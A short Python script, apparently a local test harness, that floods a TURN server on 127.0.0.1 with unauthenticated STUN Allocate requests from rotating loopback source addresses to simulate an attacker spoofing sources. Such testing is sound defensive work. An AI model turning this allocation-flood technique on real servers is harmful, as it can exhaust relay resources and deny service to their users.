#!/usr/bin/env python3
"""Send N unauthenticated STUN Allocate requests to a TURN server from many
loopback source addresses (127.x.y.z, a different one every 100 requests),
as an attacker spoofing sources would. Loopback only."""
import os, socket, struct, sys

def main():
    port = int(sys.argv[1]); total = int(sys.argv[2]) if len(sys.argv) > 2 else 100000
    sent = 0; i = 0
    while sent < total:
        i += 1
        src = "127.%d.%d.%d" % (1 + (i >> 16) % 250, (i >> 8) & 255, 1 + (i & 255) % 254)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.bind((src, 0))
        except OSError:
            s.close(); continue
        for _ in range(min(100, total - sent)):
            body = struct.pack("!HHI", 0x0019, 4, 17 << 24)  # REQUESTED-TRANSPORT UDP
            msg = struct.pack("!HHI", 0x0003, len(body), 0x2112A442) + os.urandom(12) + body
            s.sendto(msg, ("127.0.0.1", port))
            sent += 1
        s.close()
    print("sent", sent)

if __name__ == "__main__":
    main()
